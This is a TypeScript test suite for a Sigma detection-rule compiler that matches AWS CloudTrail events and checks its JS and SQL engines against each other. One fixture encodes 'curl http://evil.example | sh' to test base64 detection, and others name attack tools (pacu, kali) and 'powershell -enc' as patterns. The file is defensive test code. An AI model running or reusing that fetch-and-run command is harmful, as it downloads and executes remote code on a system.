/**
 * Sigma v2 semantics, modifier by modifier and condition by condition (spec: sigma-specification, Value
 * Modifiers and Condition). Every case runs through both engines (JS and SQL over a real lake table) and
 * checks they agree with each other and with the specification.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Store } from '../../store/store.js';
import { trail, verdicts } from '../test-helpers.js';
import { compileDetection, DetectionError } from './detection.js';

let store: Store;
beforeAll(async () => {
  store = await Store.open({ path: ':memory:', threads: 1 });
});
afterAll(() => store.close());

/** Asserts the verdict of each [event overrides, expected] pair under `detection` (condition: sel if absent). */
async function expectMatches(detection: Record<string, unknown>, cases: [Record<string, unknown>, boolean][], ph = {}) {
  const det = 'condition' in detection ? detection : { sel: detection, condition: 'sel' };
  const pred = compileDetection(det, ph);
  const { js, sql } = await verdicts(store, pred, cases.map(([e], i) => trail(e, i)));
  expect(sql, 'SQL engine agrees with the JS engine').toEqual(js);
  expect(js).toEqual(cases.map(([, want]) => want));
}

describe('values', () => {
  it('matches case-insensitively by default, exactly (no implicit substring)', () =>
    expectMatches({ eventName: 'stoplogging' }, [
      [{ eventName: 'StopLogging' }, true],
      [{ eventName: 'StopLoggingNow' }, false],
      [{ eventName: 'xStopLogging' }, false],
    ]));
  it('lists are OR', () =>
    expectMatches({ eventName: ['StopLogging', 'DeleteTrail'] }, [
      [{ eventName: 'DeleteTrail' }, true],
      [{ eventName: 'UpdateTrail' }, false],
    ]));
  it('map entries are AND; a list of maps is OR', async () => {
    await expectMatches({ eventName: 'StopLogging', awsRegion: 'eu-west-1' }, [
      [{ eventName: 'StopLogging', awsRegion: 'eu-west-1' }, true],
      [{ eventName: 'StopLogging', awsRegion: 'us-east-1' }, false],
    ]);
    await expectMatches({ sel: [{ eventName: 'A' }, { awsRegion: 'eu-west-1' }], condition: 'sel' }, [
      [{ eventName: 'a' }, true],
      [{ awsRegion: 'eu-west-1' }, true],
      [{}, false],
    ]);
  });
  it('wildcards * and ? match any run / one character; \\* and \\? are literal', async () => {
    await expectMatches({ eventName: 'Delete*Policy' }, [
      [{ eventName: 'DeleteRolePolicy' }, true],
      [{ eventName: 'DeletePolicy' }, true],
      [{ eventName: 'DeletePolicyVersion' }, false],
    ]);
    await expectMatches({ eventName: 'Get?' }, [
      [{ eventName: 'GetX' }, true],
      [{ eventName: 'Get' }, false],
      [{ eventName: 'GetXY' }, false],
    ]);
    await expectMatches({ userAgent: 'a\\*b\\?' }, [
      [{ userAgent: 'a*b?' }, true],
      [{ userAgent: 'axxb?' }, false],
      [{ userAgent: 'a*bc' }, false],
    ]);
  });
  it('long value lists (one regular expression in the live engine) keep every value literal but * and ?', () =>
    expectMatches({ 'userAgent|contains': ['pacu', 'a.b', '(x)', 'q?z', 'end$', '[set]'] }, [
      [{ userAgent: 'A.B/1' }, true],
      [{ userAgent: 'axb' }, false],
      [{ userAgent: 'tool (X) 1' }, true],
      [{ userAgent: 'qaz' }, true],
      [{ userAgent: 'qz' }, false],
      [{ userAgent: 'the end$ is near' }, true],
      [{ userAgent: 'the end' }, false],
      [{ userAgent: '[SET]' }, true],
      [{ userAgent: 's' }, false],
    ]));
  it('SQL LIKE metacharacters in values are literal', () =>
    expectMatches({ userAgent: '100%_done' }, [
      [{ userAgent: '100%_done' }, true],
      [{ userAgent: '100xxdone' }, false],
    ]));
  it('numbers and booleans compare as the text CloudTrail stores', () =>
    expectMatches({ 'requestParameters.maxResults': 50, 'requestParameters.dryRun': true }, [
      [{ requestParameters: { maxResults: 50, dryRun: true } }, true],
      [{ requestParameters: { maxResults: 51, dryRun: true } }, false],
    ]));
  it('null matches a missing or null field', () =>
    expectMatches({ errorCode: null }, [
      [{}, true],
      [{ errorCode: null }, true],
      [{ errorCode: 'AccessDenied' }, false],
    ]));
  it('dotted paths reach nested objects (struct and JSON columns); missing parents never crash', () =>
    expectMatches({ 'userIdentity.sessionContext.sessionIssuer.arn|endswith': ':role/admin', 'requestParameters.policy.Statement': null }, [
      [{ userIdentity: { type: 'AssumedRole', sessionContext: { sessionIssuer: { arn: 'arn:aws:iam::1:role/admin' } } } }, true],
      [{ userIdentity: { type: 'AssumedRole', sessionContext: { sessionIssuer: { arn: 'arn:aws:iam::1:role/dev' } } } }, false],
      [{ userIdentity: null }, false],
      [{ userIdentity: { type: 'IAMUser' } }, false],
    ]));
  it('JSON objects compare as their JSON text (contains over requestParameters)', () =>
    expectMatches({ 'requestParameters|contains': '"0.0.0.0/0"' }, [
      [{ requestParameters: { ipPermissions: { items: [{ ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } }] } } }, true],
      [{ requestParameters: { ipPermissions: { items: [{ ipRanges: { items: [{ cidrIp: '10.0.0.0/8' }] } }] } } }, false],
      [{}, false],
    ]));
  it('list fields (resources.ARN) match when any element does', () =>
    expectMatches({ 'resources.ARN|startswith': 'arn:aws:kms:' }, [
      [{ resources: [{ ARN: 'arn:aws:s3:::b' }, { ARN: 'arn:aws:kms:us-east-1:1:key/x' }] }, true],
      [{ resources: [{ ARN: 'arn:aws:s3:::b' }] }, false],
      [{}, false],
    ]));
  it('keywords (values without a field) search every field', () =>
    expectMatches({ sel: ['pacu', 'kali*'], condition: 'sel' }, [
      [{ userAgent: 'Pacu/1.0' }, true],
      [{ requestParameters: { note: 'run by PACU' } }, true],
      [{ userAgent: 'aws-cli/2' }, false],
    ]));
  it('fields CloudTrail does not have are always empty', () =>
    expectMatches({ sel: { eventName: 'ListUsers' }, nope: { status: 'success' }, condition: 'sel and not nope' }, [
      [{ eventName: 'ListUsers', status: 'success' }, true],
    ]));
});

describe('modifiers', () => {
  it('contains / startswith / endswith', async () => {
    await expectMatches({ 'userAgent|contains': 'kali' }, [
      [{ userAgent: 'Boto3/1.7 Linux/5.10-KALI' }, true],
      [{ userAgent: 'aws-cli' }, false],
    ]);
    await expectMatches({ 'eventName|startswith': 'Delete' }, [
      [{ eventName: 'DeleteTrail' }, true],
      [{ eventName: 'UndeleteTrail' }, false],
    ]);
    await expectMatches({ 'eventName|endswith': 'Policy' }, [
      [{ eventName: 'PutUserPolicy' }, true],
      [{ eventName: 'PutUserPolicyX' }, false],
    ]);
  });
  it('all: every value must match (and * in a value stays a wildcard unless escaped)', async () => {
    await expectMatches({ 'requestParameters.policyDocument|contains|all': ['"Action": "\\*"', '"Resource": "\\*"'] }, [
      [{ requestParameters: { policyDocument: '{"Action": "*", "Resource": "*"}' } }, true],
      [{ requestParameters: { policyDocument: '{"Action": "*", "Resource": "arn"}' } }, false],
      [{ requestParameters: { policyDocument: '{"Action": "s3:*"}' } }, false],
    ]);
    await expectMatches({ 'requestParameters.policyDocument|contains|all': ['"Action": "*"', '"Resource": "*"'] }, [
      [{ requestParameters: { policyDocument: '{"Action": "*", "Resource": "arn"}' } }, true],
    ]);
  });
  it('exists: true / false', async () => {
    await expectMatches({ 'errorCode|exists': true }, [
      [{ errorCode: 'AccessDenied' }, true],
      [{}, false],
    ]);
    await expectMatches({ 'errorCode|exists': false }, [
      [{ errorCode: 'AccessDenied' }, false],
      [{}, true],
    ]);
  });
  it('cased: case-sensitive', () =>
    expectMatches({ 'eventName|cased': 'StopLogging' }, [
      [{ eventName: 'StopLogging' }, true],
      [{ eventName: 'stoplogging' }, false],
    ]));
  it('neq: not equal (a missing field is not equal)', () =>
    expectMatches({ 'awsRegion|neq': 'us-east-1' }, [
      [{ awsRegion: 'eu-west-1' }, true],
      [{ awsRegion: 'US-EAST-1' }, false],
      [{ awsRegion: null }, true],
    ]));
  it('re: case-sensitive search; i, m, s sub-modifiers', async () => {
    await expectMatches({ 'userIdentity.arn|re': ':assumed-role/aws:.+' }, [
      [{ userIdentity: { arn: 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1' } }, true],
      [{ userIdentity: { arn: 'arn:aws:sts::1:ASSUMED-ROLE/aws:x' } }, false],
    ]);
    await expectMatches({ 'userAgent|re|i': '^boto3' }, [
      [{ userAgent: 'BOTO3/1.2' }, true],
      [{ userAgent: 'x boto3' }, false],
    ]);
    await expectMatches({ 'errorMessage|re|m': '^denied$' }, [
      [{ errorMessage: 'first\ndenied\nlast' }, true],
      [{ errorMessage: 'not denied here' }, false],
    ]);
    await expectMatches({ 'errorMessage|re|s': 'a.b' }, [
      [{ errorMessage: 'a\nb' }, true],
      [{ errorMessage: 'ab' }, false],
    ]);
    await expectMatches({ 'errorMessage|re': 'a.b' }, [[{ errorMessage: 'a\nb' }, false]]);
  });
  it('cidr: IPv4 ranges', () =>
    expectMatches({ 'sourceIPAddress|cidr': ['10.0.0.0/8', '172.16.0.0/12', '192.0.2.7/32'] }, [
      [{ sourceIPAddress: '10.200.3.4' }, true],
      [{ sourceIPAddress: '172.31.255.1' }, true],
      [{ sourceIPAddress: '172.32.0.1' }, false],
      [{ sourceIPAddress: '192.0.2.7' }, true],
      [{ sourceIPAddress: '192.0.2.70' }, false],
      [{ sourceIPAddress: 'AWS Internal' }, false],
    ]));
  it('lt / lte / gt / gte: numeric', async () => {
    const ev = (n: unknown) => ({ requestParameters: { minCount: n } });
    await expectMatches({ 'requestParameters.minCount|gt': 10 }, [
      [ev(11), true],
      [ev(10), false],
      [ev('9'), false],
      [ev('abc'), false],
      [{}, false],
    ]);
    await expectMatches({ 'requestParameters.minCount|gte': 10 }, [[ev(10), true], [ev(9.5), false]]);
    await expectMatches({ 'requestParameters.minCount|lt': 10 }, [[ev(9.5), true], [ev(10), false]]);
    await expectMatches({ 'requestParameters.minCount|lte': 10 }, [[ev('10'), true], [ev(11), false]]);
  });
  it('fieldref: compares two fields (with contains/startswith/endswith)', async () => {
    await expectMatches({ 'userIdentity.userName|fieldref': 'requestParameters.userName' }, [
      [{ requestParameters: { userName: 'ALICE' } }, true],
      [{ requestParameters: { userName: 'bob' } }, false],
      [{ requestParameters: {} }, false],
    ]);
    await expectMatches({ 'userIdentity.arn|fieldref|endswith': 'requestParameters.userName' }, [
      [{ requestParameters: { userName: 'alice' } }, true],
      [{ requestParameters: { userName: 'bob' } }, false],
    ]);
  });
  it('base64 and base64offset', async () => {
    const b64 = Buffer.from('secret-stuff').toString('base64');
    await expectMatches({ 'requestParameters.userData': 'secret-stuff', 'requestParameters.userData|base64': 'secret-stuff' }, [[{ requestParameters: { userData: b64 } }, false]]);
    await expectMatches({ 'requestParameters.userData|base64': 'secret-stuff' }, [
      [{ requestParameters: { userData: b64 } }, true],
      [{ requestParameters: { userData: 'secret-stuff' } }, false],
    ]);
    // The value at each byte offset inside a longer encoded text.
    const inside = (pre: string) => Buffer.from(`${pre}curl http://evil.example | sh`).toString('base64');
    await expectMatches({ 'requestParameters.userData|base64offset|contains': 'http://evil' }, [
      [{ requestParameters: { userData: inside('') } }, true],
      [{ requestParameters: { userData: inside('x') } }, true],
      [{ requestParameters: { userData: inside('xy') } }, true],
      [{ requestParameters: { userData: Buffer.from('curl http://good.example').toString('base64') } }, false],
    ]);
  });
  it('utf16le / wide / utf16be / utf16 before base64', async () => {
    const enc = (s: string, e: 'le' | 'be' | 'bom') => {
      const le = Buffer.from(s, 'utf16le');
      const b = e === 'le' ? le : e === 'be' ? Buffer.from(le).swap16() : Buffer.concat([Buffer.from([0xff, 0xfe]), le]);
      return b.toString('base64');
    };
    await expectMatches({ 'requestParameters.c|utf16le|base64': 'cmd' }, [[{ requestParameters: { c: enc('cmd', 'le') } }, true], [{ requestParameters: { c: enc('cmd', 'be') } }, false]]);
    await expectMatches({ 'requestParameters.c|wide|base64': 'cmd' }, [[{ requestParameters: { c: enc('cmd', 'le') } }, true]]);
    await expectMatches({ 'requestParameters.c|utf16be|base64': 'cmd' }, [[{ requestParameters: { c: enc('cmd', 'be') } }, true]]);
    await expectMatches({ 'requestParameters.c|utf16|base64': 'cmd' }, [[{ requestParameters: { c: enc('cmd', 'bom') } }, true]]);
  });
  it('windash: - and / (and dash look-alikes) are interchangeable', () =>
    expectMatches({ 'requestParameters.cmd|windash|contains': ' -enc ' }, [
      [{ requestParameters: { cmd: 'powershell /enc AAA' } }, true],
      [{ requestParameters: { cmd: 'powershell -enc AAA' } }, true],
      [{ requestParameters: { cmd: 'powershell \u2013enc AAA' } }, true],
      [{ requestParameters: { cmd: 'powershell enc AAA' } }, false],
    ]));
  it('expand: %placeholders% take their values from params/config', () =>
    expectMatches(
      { sel: { eventName: 'RunInstances' }, ok: { 'awsRegion|expand': '%approvedRegions%' }, condition: 'sel and not ok' },
      [
        [{ eventName: 'RunInstances', awsRegion: 'ap-south-1' }, true],
        [{ eventName: 'RunInstances', awsRegion: 'eu-west-1' }, false],
        [{ eventName: 'RunInstances', awsRegion: 'us-east-1' }, false],
      ],
      { approvedRegions: ['us-east-1', 'eu-west-1'] },
    ));
});

describe('conditions', () => {
  const base = { a: { eventName: 'A' }, b: { awsRegion: 'r1' }, c: { userAgent: 'ua' } };
  const ev = (n: string, r: string, u: string) => ({ eventName: n, awsRegion: r, userAgent: u });
  it('and / or / not with precedence not > and > or', () =>
    expectMatches({ ...base, condition: 'not a and b or c' }, [
      [ev('X', 'r1', 'z'), true],
      [ev('A', 'r1', 'z'), false],
      [ev('A', 'r1', 'ua'), true],
      [ev('X', 'r2', 'z'), false],
    ]));
  it('parentheses', () =>
    expectMatches({ ...base, condition: 'not (a and b) and (b or c)' }, [
      [ev('A', 'r1', 'z'), false],
      [ev('X', 'r1', 'z'), true],
      [ev('A', 'r2', 'ua'), true],
    ]));
  it('1 of x* / all of x*', async () => {
    const d = { sel_a: { eventName: 'A' }, sel_b: { awsRegion: 'r1' }, other: { userAgent: 'ua' } };
    await expectMatches({ ...d, condition: '1 of sel_*' }, [
      [ev('A', 'r2', 'z'), true],
      [ev('X', 'r2', 'ua'), false],
    ]);
    await expectMatches({ ...d, condition: 'all of sel_*' }, [
      [ev('A', 'r1', 'z'), true],
      [ev('A', 'r2', 'z'), false],
    ]);
  });
  it('1 of them / all of them', async () => {
    await expectMatches({ ...base, condition: '1 of them' }, [
      [ev('X', 'r2', 'ua'), true],
      [ev('X', 'r2', 'z'), false],
    ]);
    await expectMatches({ ...base, condition: 'all of them' }, [
      [ev('A', 'r1', 'ua'), true],
      [ev('A', 'r1', 'z'), false],
    ]);
  });
});

describe('constructs vigil cannot run are errors naming them', () => {
  const bad = (det: Record<string, unknown>, msg: RegExp) => expect(() => compileDetection(det, {})).toThrow(msg);
  it('unknown modifier', () => bad({ s: { 'eventName|foo': 'x' }, condition: 's' }, /unknown modifier 'foo'/));
  it('all with one value', () => bad({ s: { 'eventName|all': 'x' }, condition: 's' }, /'all' needs a list/));
  it('utf16 without base64', () => bad({ s: { 'eventName|utf16le': 'x' }, condition: 's' }, /utf16le only works before base64/));
  it('IPv6 cidr', () => bad({ s: { 'sourceIPAddress|cidr': '2001:db8::/32' }, condition: 's' }, /IPv6/));
  it('bad regex', () => bad({ s: { 'eventName|re': '(' }, condition: 's' }, /invalid regular expression/));
  it('expand without a value', () => bad({ s: { 'awsRegion|expand': '%nope%' }, condition: 's' }, /%nope% has no value/));
  it('unknown identifier and syntax errors', () => {
    bad({ s: { eventName: 'x' }, condition: 's and t' }, /unknown search identifier 't'/);
    bad({ s: { eventName: 'x' }, condition: '(s' }, /missing '\)'/);
    bad({ s: { eventName: 'x' }, condition: 's near s' }, /near/);
    bad({ s: { eventName: 'x' }, condition: '2 of s*' }, /'2 of'/);
  });
  it('v1 aggregations other than count > N', () => bad({ s: { eventName: 'x' }, condition: 's | count() < 3' }, /cannot be decided/));
  it('errors are DetectionErrors', () => expect(() => compileDetection({ s: { 'a|b': 1 }, condition: 's' }, {})).toThrow(DetectionError));
});
